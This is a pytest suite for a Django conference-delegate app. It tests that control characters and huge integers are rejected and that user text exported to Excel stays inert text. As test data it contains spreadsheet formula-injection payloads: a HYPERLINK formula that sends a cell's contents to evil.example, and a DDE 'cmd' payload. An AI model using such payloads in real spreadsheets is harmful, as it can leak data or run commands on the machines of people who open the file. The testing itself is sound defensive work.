"""Text at the boundary: control characters and out-of-range integers are
form errors, never a 500 or a saved row; user text comes out of every
.xlsx as a string cell, never a formula; stored rows are cleaned."""

import io

import pytest
from axes.models import AccessAttempt
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from congress.models import Conference
from delegates.models import Category, Delegate
from reports.xlsx import Column, Sheet, write_workbook
from tests.congress.conftest import tiers  # noqa: F401 - fixture
from tests.delegates.people import test_people_import as people_files
from tests.factories import ConferenceFactory, DelegateFactory
from tests.units import test_unit_import as unit_files
from units.cleaning import clean_control_characters
from units.forms import INTEGER_MAX, axes_username
from units.text import CONTROL_CHARACTERS_MESSAGE, control_characters, strip_control_characters
from units.workbooks import list_sheet, safe

# "Ô này chứa ký tự điều khiển không hợp lệ." once the catalogue has it.
CONTROL_ERROR = str(CONTROL_CHARACTERS_MESSAGE)
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture
def hcm_upper(tree, tiers):  # noqa: F811
    return ConferenceFactory(tier=tiers[2], unit=tree.hcm)


# -- The pure function --------------------------------------------------------------


def test_control_characters_are_found_but_line_breaks_only_in_multi_line_text():
    assert control_characters("A\x17B\x00C\x17") == ["\x17", "\x00"]
    assert control_characters("Hà Nội\u00a0– “1”") == []
    assert control_characters("a\tb\nc") == ["\t", "\n"]
    assert control_characters("a\tb\r\nc", multiline=True) == []
    assert control_characters("a\x85b\x7f", multiline=True) == ["\x85", "\x7f"]
    assert strip_control_characters("A\x17B\nC", multiline=True) == "AB\nC"


# -- Forms: each probe is a form error -------------------------------------------------


def test_a_nul_in_the_check_in_search_is_a_form_error(client, users, hcm_upper):
    client.force_login(users["officer_hcm"])
    response = client.get(reverse("delegates:check_in", args=[hcm_upper.pk]), {"q": "a\x00b"})
    assert response.status_code == 200
    assert response.context["search_errors"]
    assert response.context["found"] == []
    response = client.get(reverse("delegates:check_in", args=[hcm_upper.pk]), {"q": "a\x17b"})
    assert response.context["search_errors"] == [CONTROL_ERROR]
    assert CONTROL_ERROR in response.text


def test_an_overlong_username_is_a_form_error_and_no_attempt_is_recorded(client, db):
    response = client.post(reverse("login"), {"username": "a" * 10_000, "password": "x"})
    assert response.status_code == 200
    assert response.context["form"].errors["username"]
    assert not AccessAttempt.objects.exists()


def test_axes_records_at_most_150_characters_of_a_username():
    assert axes_username(None, {"username": "b" * 10_000}) == "b" * 150
    assert axes_username(None, {}) is None


def test_a_huge_expected_attendance_is_a_form_error(client, users, tree, tiers):  # noqa: F811
    conference = ConferenceFactory(tier=tiers[1], unit=tree.hcm_district, venue="Hội trường")
    client.force_login(users["officer_hcm"])
    response = client.post(
        reverse("congress:conference_edit", args=[conference.pk]),
        {
            "date": "15/01/2020",
            "start_time": "08:00",
            "venue": "Hội trường BHXH Quận 1",
            "length": "half_day",
            "combined_with": "",
            "expected_attendance": "100000000000000000000",
            "note": "",
            "lock_version": conference.lock_version,
        },
    )
    assert response.status_code == 200
    assert response.context["form"].errors["expected_attendance"]
    assert Conference.objects.get(pk=conference.pk).venue == "Hội trường"
    assert str(INTEGER_MAX) == "2147483647"


def test_a_guest_with_a_control_character_is_refused(client, users, hcm_upper):
    client.force_login(users["officer_hcm"])
    response = client.post(
        reverse("delegates:guest_add", args=[hcm_upper.pk]), {"guest_name": "A\x17B"}
    )
    assert response.status_code == 200
    assert response.context["form"].errors["guest_name"] == [CONTROL_ERROR]
    assert not Delegate.objects.filter(conference=hcm_upper).exists()


def test_a_note_keeps_its_line_breaks_but_not_other_controls(client, users, tree, tiers):  # noqa: F811
    from congress.forms import ConferenceForm

    data = {
        "date": "15/01/2020",
        "start_time": "08:00",
        "venue": "Hội trường",
        "length": "half_day",
        "expected_attendance": "18",
        "note": "Dòng một\r\nDòng hai",
    }
    assert ConferenceForm(data).is_valid()
    form = ConferenceForm({**data, "note": "Dòng\x0b một", "venue": "Hội\ttrường"})
    assert not form.is_valid()
    assert set(form.errors) == {"note", "venue"}


# -- Imports refuse control characters on their cell ---------------------------------


def test_the_people_import_refuses_a_control_character_on_its_cell():
    parsed = people_files.read(people_files.row(position="Chuyên\x9bviên"))
    assert (2, people_files.HEADERS["position"]) in people_files.errors_of(parsed)
    assert any(CONTROL_ERROR in e.message for e in parsed.errors)


def test_the_unit_import_refuses_a_control_character_on_its_cell():
    parsed = unit_files.read(unit_files.row(name="BHXH\x9bQuận 3"))
    assert any(CONTROL_ERROR in e.message for e in parsed.errors)
    assert parsed.errors[0].row == 2


# -- Spreadsheets never run input ------------------------------------------------------


def cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def test_a_guest_named_as_a_formula_comes_out_of_the_delegate_list_as_text(
    client, users, hcm_upper
):
    client.force_login(users["officer_hcm"])
    response = client.post(
        reverse("delegates:guest_add", args=[hcm_upper.pk]),
        {"guest_name": EVIL_NAME, "guest_title": "=1+1"},
    )
    assert response.status_code == 302
    response = client.get(reverse("delegates:delegate_export", args=[hcm_upper.pk]))
    by_value = {cell.value: cell for cell in cells(response.content)}
    assert by_value[EVIL_NAME].data_type == "s"
    assert by_value["=1+1"].data_type == "s"
    assert by_value[1].data_type == "n"  # the row's number stays a number


def test_the_report_writer_keeps_formulas_as_text_and_numbers_as_numbers():
    sheet = Sheet(
        title="Danh sách",
        heading="=1+1",
        columns=[Column("Họ và tên"), Column("Năm")],
        rows=[[EVIL_NAME, 1980], ["+cmd|' /C calc'!A0", {"date": "2020-01-14"}], "@SUM(A1)"],
        lines=["-2+3"],
    )
    written = {cell.value: cell for cell in cells(write_workbook([sheet]))}
    for text in ("=1+1", EVIL_NAME, "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3"):
        assert written[text].data_type == "s"
    assert written[1980].data_type == "n"
    assert any(cell.is_date for cell in written.values() if cell.value is not None)


def test_the_list_sheet_keeps_formulas_as_text_and_drops_illegal_characters():
    workbook = Workbook()
    list_sheet(
        workbook,
        title="Danh sách",
        columns=[("name", "Họ và tên", 30), ("year", "Năm", 8)],
        rows=[[EVIL_NAME, 1980], ["A\x17B", 1981]],
        text_columns=["name"],
    )
    buffer = io.BytesIO()
    workbook.save(buffer)
    written = {cell.value: cell for cell in cells(buffer.getvalue())}
    assert written[EVIL_NAME].data_type == "s"
    assert "AB" in written
    assert written[1980].data_type == "n"
    assert safe("A\x17B") == "AB"


def test_the_board_export_writes_unit_names_as_text(client, users, tree, tiers):  # noqa: F811
    tree.hcm.name = "=1+1"
    tree.hcm.save(update_fields=["name"])
    client.force_login(users["admin"])
    response = client.get(reverse("progress:board_export"))
    assert response.status_code == 200
    written = [cell for cell in cells(response.content) if cell.value == "=1+1"]
    assert written
    assert all(cell.data_type == "s" for cell in written)


# -- Stored rows are cleaned --------------------------------------------------------


def test_the_cleaning_removes_control_characters_from_stored_rows(hcm_upper):
    dirty = DelegateFactory(
        conference=hcm_upper, category=Category.GUEST, person=None, guest_name="A\x17B"
    )
    clean = DelegateFactory(
        conference=hcm_upper, category=Category.GUEST, person=None, guest_name="Lê Văn Tám"
    )
    changed = clean_control_characters(Delegate, single_line=["guest_name", "note"])
    assert changed == 1
    dirty.refresh_from_db()
    clean.refresh_from_db()
    assert dirty.guest_name == "AB"
    assert clean.guest_name == "Lê Văn Tám"


def test_the_data_migrations_clean_people_delegates_and_conferences(hcm_upper, tree):
    from importlib import import_module

    from django.apps import apps

    from delegates.models import Person
    from tests.factories import PersonFactory

    person = PersonFactory(unit=tree.hcm, full_name="Trần\x17 Văn An", position="Chuyên\x9bviên")
    Person.objects.filter(pk=person.pk).update(search_name="tran\x17 van an")
    guest = DelegateFactory(
        conference=hcm_upper,
        category=Category.GUEST,
        person=None,
        guest_name="Lê Tám",
        guest_title="Phó\x1bGiám đốc",
    )
    Conference.objects.filter(pk=hcm_upper.pk).update(venue="Hội\x07trường", note="Một\nHai\x7f")
    import_module("delegates.migrations.0008_clean_control_characters").clean(apps, None)
    import_module("congress.migrations.0006_clean_control_characters").clean(apps, None)
    person.refresh_from_db()
    guest.refresh_from_db()
    hcm_upper.refresh_from_db()
    assert (person.full_name, person.position) == ("Trần Văn An", "Chuyênviên")
    assert person.search_name == "tran van an"
    assert guest.guest_title == "PhóGiám đốc"
    assert (hcm_upper.venue, hcm_upper.note) == ("Hộitrường", "Một\nHai")
